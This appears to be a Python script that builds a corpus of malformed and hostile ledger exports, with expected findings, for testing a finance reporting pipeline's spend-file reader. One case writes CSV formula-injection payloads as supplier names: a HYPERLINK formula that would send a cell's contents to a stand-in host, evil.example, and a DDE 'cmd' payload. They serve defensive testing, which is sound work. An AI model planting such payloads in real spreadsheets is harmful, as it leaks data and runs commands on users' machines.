"""Write tests/corpus/ledgers/: messy and hostile ledger exports, and their cases.toml.

The ledger part of the hostile-input corpus (``scripts/make_corpus.py`` writes the workbooks
and calls this). Each file is a spend file as a finance system, a person or an attacker leaves
it in ``input/spend/``, read against the sample plan; ``tests/test_ledger_corpus.py`` checks
that it gives exactly the findings listed, each located (file, sheet, row or line), quoting
what was seen and saying how to fix it, and that the payments it could read are counted (how
many, and their total). Payments are dated April to June 2021, so every position also carries
the sample's ring-fenced underspend (``BASE``) and no "no spend" note. Re-make with::

    .venv/bin/python -m scripts.make_corpus
"""

from __future__ import annotations

import re
import struct
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import xlsxwriter

from pipeline.new_workbook import write_workbook
from scripts import make_sample
from scripts.make_corpus import _cfb, _toml_string, rewrite_zip

# code, sheet, cell, a fragment of what was seen, a fragment of how to fix it
Expect = tuple[str, str, str, str, str]

# Payments to three single-line suppliers leave the MoJ grant forecast underspent.
BASE: Expect = (
    "W-RINGFENCE-UNDERSPEND",
    "Funding sources",
    "C2",
    "ring-fenced £884,000",
    "commit or reprofile it",
)
HEADER = "Date,Supplier,Amount,Transaction number,Cost centre\n"
# Three ordinary payments, one line each in the plan (Rape Crisis, NWCH, Crimestoppers).
ROWS = (
    "06/04/2021,Rape Crisis,1589.63,T1001,\n"
    "07/05/2021,NWCH,352.90,T1002,\n"
    "04/06/2021,Crimestoppers,1506.25,T1003,\n"
)
ROWS_TOTAL = "3448.78"
GROW_TO = 200 * 1024 * 1024  # the test makes huge.csv this big (sparse) before reading it


@dataclass
class LedgerCase:
    file: str
    defect: str
    counted: int  # payments read and counted in the position (in the year)
    total: str  # their sum, exactly
    expect: Sequence[Expect]
    write: Callable[[Path], None] = field(repr=False)
    grow_to: int = 0


CASES: list[LedgerCase] = []


def case(
    file: str, defect: str, counted: int, total: str, *expect: Expect, grow_to: int = 0
) -> Callable[[Callable[[Path], None]], None]:
    """Register a writer for ``file``: what it must count and the findings it must give."""

    def register(write: Callable[[Path], None]) -> None:
        CASES.append(LedgerCase(file, defect, counted, total, expect, write, grow_to))

    return register


def _text(path: Path, text: str, encoding: str = "utf-8") -> None:
    path.write_bytes(text.encode(encoding))


def _xlsx(
    path: Path, rows: Sequence[Sequence[object]], **sheets: Sequence[Sequence[object]]
) -> None:
    """A ledger .xlsx written as Excel saves it (cached formula results included)."""
    book = xlsxwriter.Workbook(path, {"strings_to_formulas": False})
    book.set_properties({"created": datetime(2021, 6, 30)})  # the same bytes every time
    money = book.add_format({"num_format": "#,##0.00"})
    for title, table in {"Payments": rows, **sheets}.items():
        sheet = book.add_worksheet(title)
        for r, row in enumerate(table):
            for c, value in enumerate(row):
                if isinstance(value, tuple):  # (formula, its result)
                    sheet.write_formula(r, c, value[0], money, value[1])
                elif isinstance(value, Decimal):
                    sheet.write_number(r, c, value, money)
                else:
                    sheet.write(r, c, value)
        if title != "Payments":
            sheet.hide()
    book.close()


PAYMENTS_XLSX: list[list[object]] = [
    ["Payment date", "Payee", "Net amount", "Voucher number"],
    ["06/04/2021", "Rape Crisis", Decimal("1589.63"), "V1"],
    ["07/05/2021", "NWCH", Decimal("352.90"), "V2"],
    ["04/06/2021", "Crimestoppers", Decimal("1506.25"), "V3"],
]


# -- text files: encodings and separators ------------------------------------------------------


@case(
    "utf8-with-bom.csv", "CSV UTF-8 as Excel saves it, with a byte-order mark", 3, ROWS_TOTAL, BASE
)
def _(path: Path) -> None:
    _text(path, HEADER + ROWS, "utf-8-sig")


@case(
    "windows-1252.csv",
    "plain 'CSV' from Excel on Windows: Windows-1252, a £ in the amounts and é in a name",
    4,
    "3548.78",
    BASE,
    (
        "W-SPEND-UNMATCHED",
        "windows-1252.csv",
        "line 5",
        "Café Nomad",
        "add the name to [tool.pcc-report.aliases]",
    ),
)
def _(path: Path) -> None:
    rows = ROWS.replace("1589.63", '"£1,589.63"') + "08/06/2021,Café Nomad,£100.00,T1004,\n"
    _text(path, HEADER + rows, "cp1252")


@case(
    "utf-16.txt",
    "'Unicode text' from Excel: UTF-16 with its byte-order mark, separated by tabs",
    3,
    ROWS_TOTAL,
    BASE,
)
def _(path: Path) -> None:
    _text(path, (HEADER + ROWS).replace(",", "\t").replace("\n", "\r\n"), "utf-16")


@case(
    "utf-16-no-bom.csv",
    "UTF-16 with no byte-order mark: NUL bytes between the letters, and no saying which order",
    0,
    "0",
    ("W-SPEND-READ", "utf-16-no-bom.csv", "", "UTF-16", "save it from Excel as 'CSV UTF-8"),
)
def _(path: Path) -> None:
    _text(path, HEADER + ROWS, "utf-16-le")


@case(
    "april.ods",
    "a month saved as an OpenDocument spreadsheet: said, not skipped",
    0,
    "0",
    ("W-SPEND-READ", "april.ods", "", "is not a CSV or .xlsx file", "save it as CSV UTF-8"),
)
def _(path: Path) -> None:
    _text(path, HEADER + ROWS)


@case(
    "not-windows-1252.csv",
    "a byte that is neither UTF-8 nor Windows-1252 (0x81) on line 3",
    0,
    "0",
    ("W-SPEND-READ", "not-windows-1252.csv", "line 3", "byte 0x81 on line 3", "CSV UTF-8"),
)
def _(path: Path) -> None:
    path.write_bytes((HEADER + ROWS).encode("ascii").replace(b"NWCH", b"NW\x81CH"))


@case(
    "semicolons.csv",
    "separated by semicolons, as Excel saves CSV where the decimal mark is a comma",
    3,
    ROWS_TOTAL,
    BASE,
)
def _(path: Path) -> None:
    _text(path, (HEADER + ROWS).replace(",", ";"))


@case(
    "semicolons-decimal-comma.csv",
    "semicolons and decimal commas (1589,63): read as £1,589.63, never £158,963",
    3,
    "3448.53",
    BASE,
)
def _(path: Path) -> None:
    rows = ROWS.replace(",", ";").replace("1589.63", "1589,63").replace("352.90", "352,90")
    _text(path, HEADER.replace(",", ";") + rows.replace("1506.25", "1506"))


# -- what a file holds ----------------------------------------------------------------------


@case("empty.csv", "an empty file (0 bytes: an export that failed)", 0, "0",
      ("W-SPEND-READ", "empty.csv", "", "is empty (0 bytes)", "export the ledger again"))  # fmt: skip
def _(path: Path) -> None:
    path.write_bytes(b"")


@case(
    "header-only.csv",
    "the header and no payment (a month with nothing to publish, or a failed export)",
    0,
    "0",
    ("W-SPEND-READ", "header-only.csv", "", "no payment rows", "export it again with its"),
)
def _(path: Path) -> None:
    _text(path, HEADER + ",,,,\n")


@case(
    "huge.csv",
    f"a {GROW_TO // (1024 * 1024)} MB export (the test makes it that big, sparse): refused "
    "before it is read",
    0,
    "0",
    ("W-SPEND-READ", "huge.csv", "", "is 200 MB", "export one month or one quarter per file"),
    grow_to=GROW_TO,
)
def _(path: Path) -> None:
    _text(path, HEADER + ROWS)


@case(
    "no-header.csv",
    "headings the ledger does not know (When, Who, How much)",
    0,
    "0",
    ("W-SPEND-READ", "no-header.csv", "", '"When", "Who", "How much"', "Name the columns"),
)
def _(path: Path) -> None:
    _text(path, "When,Who,How much\n" + "06/04/2021,Rape Crisis,1589.63\n")


@case(
    "plan-workbook.xlsx",
    "the plan workbook itself dropped into the spend folder",
    0,
    "0",
    ("W-SPEND-READ", "plan-workbook.xlsx", "", "is a plan workbook", "move it out of the"),
)
def _(path: Path) -> None:
    write_workbook(path, make_sample.content())


@case(
    "old-excel.xlsx",
    "an Excel 97-2003 (.xls) export renamed .xlsx",
    0,
    "0",
    ("W-SPEND-READ", "old-excel.xlsx", "", "Excel 97-2003 (.xls)", "save it as CSV UTF-8"),
)
def _(path: Path) -> None:
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x0206)
    path.write_bytes(_cfb({"Workbook": bof + struct.pack("<HH", 0x000A, 0)}))


# -- rows and values ------------------------------------------------------------------------


@case(
    "negative-refund.csv",
    "a refund as a minus sign, a credit note in brackets and one marked CRN: counted negative",
    6,
    "2948.78",
    BASE,
)
def _(path: Path) -> None:
    refunds = (
        "10/06/2021,Rape Crisis,-250.00,T2001,\n"
        "11/06/2021,NWCH,(100.00),T2002,\n"
        "14/06/2021,Crimestoppers,150.00,T2003,\n"
    )
    text = HEADER.replace("\n", ",INV/CRN\n") + (ROWS + refunds).replace("\n", ",INV\n")
    _text(path, text.replace("T2003,,INV", "T2003,,CRN"))


@case(
    "unknown-cost-code.csv",
    "a payment to a supplier no line names, with a cost code that is not on Services",
    4,
    "5948.78",
    BASE,
    (
        "W-SPEND-UNMATCHED",
        "unknown-cost-code.csv",
        "line 5",
        "Acme Consulting Ltd with cost code ZZ99",
        "give the line a Cost code",
    ),
)
def _(path: Path) -> None:
    _text(path, HEADER + ROWS + "15/06/2021,Acme Consulting Ltd,2500.00,T1004,ZZ99\n")


@case(
    "date-outside-year.csv",
    "a payment dated 2012 for 2021 (a typing slip): not counted, and its line named",
    3,
    ROWS_TOTAL,
    BASE,
    (
        "I-SPEND-OUT-OF-YEAR",
        "date-outside-year.csv",
        "",
        "£750 dated 09/06/2012 (line 5)",
        "correct it in the export",
    ),
)
def _(path: Path) -> None:
    _text(path, HEADER + ROWS + "09/06/2012,Rape Crisis,750.00,T1004,\n")


@case(
    "month-and-nonsense.csv",
    "a date typed as a month, an amount of TBC and a Total row at the bottom",
    2,
    "1859.15",
    BASE,
    (
        "W-SPEND-VALUE",
        "month-and-nonsense.csv",
        "line 2",
        'date reads "May 2021", a month',
        "give the day",
    ),
    ("W-SPEND-VALUE", "month-and-nonsense.csv", "line 5", '"TBC"', "Correct the row"),
    (
        "W-SPEND-VALUE",
        "month-and-nonsense.csv",
        "line 6",
        '"Total" and £3,448.78, a total rather than a payment, and is not counted; but the '
        "payments above it add up to £1,859.15, £1,589.63 less",
        "remove the row",
    ),
)
def _(path: Path) -> None:
    rows = ROWS.replace("06/04/2021", "May 2021") + "09/06/2021,NWCH,TBC,T1004,\n"
    _text(path, HEADER + rows + "Total,,3448.78,,\n")


@case(
    "duplicate-payment.csv",
    "one payment exported twice (same reference, supplier, date and amount)",
    4,
    "5038.41",
    BASE,
    ("W-SPEND-DUPLICATE", "duplicate-payment.csv", "line 5", "repeats the one at", "remove one"),
)
def _(path: Path) -> None:
    _text(path, HEADER + ROWS + ROWS.splitlines(keepends=True)[0])


@case(
    "formula-injection.csv",
    "supplier names that a spreadsheet would run as formulas: kept as text, never run",
    5,
    "3450.78",
    BASE,
    ("W-SPEND-UNMATCHED", "formula-injection.csv", "line 5", '=HYPERLINK("http://evil', "aliases"),
    ("W-SPEND-UNMATCHED", "formula-injection.csv", "line 6", "+cmd|' /C calc'!A0", "aliases"),
)
def _(path: Path) -> None:
    hostile = (
        '10/06/2021,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",1.00,T1004,\n'
        "11/06/2021,+cmd|' /C calc'!A0,1.00,T1005,\n"
    )
    _text(path, HEADER + ROWS + hostile)


# -- spreadsheets ---------------------------------------------------------------------------


@case(
    "formulas-cached.xlsx",
    "an .xlsx ledger saved by Excel whose amounts are formulas with their results",
    3,
    ROWS_TOTAL,
    BASE,
)
def _(path: Path) -> None:
    rows = [list(r) for r in PAYMENTS_XLSX]
    rows[1][2] = ("=1500+89.63", Decimal("1589.63"))
    _xlsx(path, rows)


@case(
    "formulas-uncached.xlsx",
    "an .xlsx ledger written by a program: amounts as formulas with no saved result",
    1,
    "1506.25",
    BASE,
    (
        "W-SPEND-VALUE",
        "formulas-uncached.xlsx › Payments",
        "row 2",
        "=1500+89.63 with no saved result",
        "open the workbook in Excel, let it calculate, and save it",
    ),
    (
        "W-SPEND-VALUE",
        "formulas-uncached.xlsx › Payments",
        "row 3",
        "=C2/4.5 with no saved result",
        "open the workbook in Excel",
    ),
)
def _(path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Payments"
    for row in PAYMENTS_XLSX:
        sheet.append([float(v) if isinstance(v, Decimal) else v for v in row])
    sheet["C2"] = "=1500+89.63"
    sheet["C3"] = "=C2/4.5"
    book.save(path)
    # openpyxl stamps the time of saving: fixed here, so the corpus is the same every time.
    stamp = re.compile(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*")
    rewrite_zip(path, lambda name, data: stamp.sub(rb"\g<1>2021-06-30T00:00:00Z", data))


@case(
    "hidden-sheet.xlsx",
    "a hidden sheet of payments beside the visible one: said, not silently counted or lost",
    3,
    ROWS_TOTAL,
    BASE,
    (
        "W-SPEND-READ",
        "hidden-sheet.xlsx › Adjustments",
        "",
        "The sheet Adjustments of hidden-sheet.xlsx is hidden",
        "Unhide it in Excel",
    ),
)
def _(path: Path) -> None:
    adjustments = [PAYMENTS_XLSX[0], ["10/06/2021", "NWCH", Decimal("99.00"), "V9"]]
    _xlsx(path, PAYMENTS_XLSX, Adjustments=adjustments)


@case(
    "far-away-value.xlsx",
    "a value typed at XFD1048576 on the ledger sheet (a dense read would abort the run)",
    3,
    ROWS_TOTAL,
    BASE,
)
def _(path: Path) -> None:
    _xlsx(path, PAYMENTS_XLSX)
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'

    def append(name: str, data: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return data
        return data.replace(b"</sheetData>", far + b"</sheetData>", 1)

    rewrite_zip(path, append)


@case(
    "truncated.xlsx",
    "the first half of an .xlsx ledger (a copy cut short)",
    0,
    "0",
    ("W-SPEND-READ", "truncated.xlsx", "", "is damaged", "copy it again from the original"),
)
def _(path: Path) -> None:
    _xlsx(path, PAYMENTS_XLSX)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


# -- cases.toml -----------------------------------------------------------------------------


_TOML_HEAD = """\
# The hostile ledgers of the corpus, written by scripts/make_ledger_corpus.py.
# Per file: the defect, the payments counted (how many, their total) against the
# sample plan, and every finding as (code, sheet, cell), a fragment of what was seen
# (says) and a fragment of how to fix it (fix).
"""
_EXPECT_KEYS = ("code", "sheet", "cell", "says", "fix")


def _inline(value: str | int) -> str:
    return str(value) if isinstance(value, int) else _toml_string(value)


def cases_toml(cases: Sequence[LedgerCase]) -> str:
    """``cases.toml``: one ``[[case]]`` table a file, its expectations as inline tables."""
    tables = []
    for c in cases:
        keys: dict[str, str | int] = {
            "file": c.file,
            "defect": c.defect,
            "counted": c.counted,
            "total": c.total,
        }
        if c.grow_to:
            keys["grow_to"] = c.grow_to
        expect = [
            "  { "
            + ", ".join(f"{k} = {_inline(v)}" for k, v in zip(_EXPECT_KEYS, e, strict=True))
            + " },"
            for e in c.expect
        ]
        body = [f"{k} = {_inline(v)}" for k, v in keys.items()]
        tables.append("\n".join(["[[case]]", *body, "expect = [", *expect, "]", ""]))
    return _TOML_HEAD + "\n" + "\n".join(tables)


def write_ledger_corpus(folder: Path) -> int:
    """Write every ledger case and ``cases.toml`` into ``folder``; the number of cases."""
    folder.mkdir(parents=True, exist_ok=True)
    for c in CASES:
        c.write(folder / c.file)
    (folder / "cases.toml").write_text(cases_toml(CASES), encoding="utf-8")
    return len(CASES)
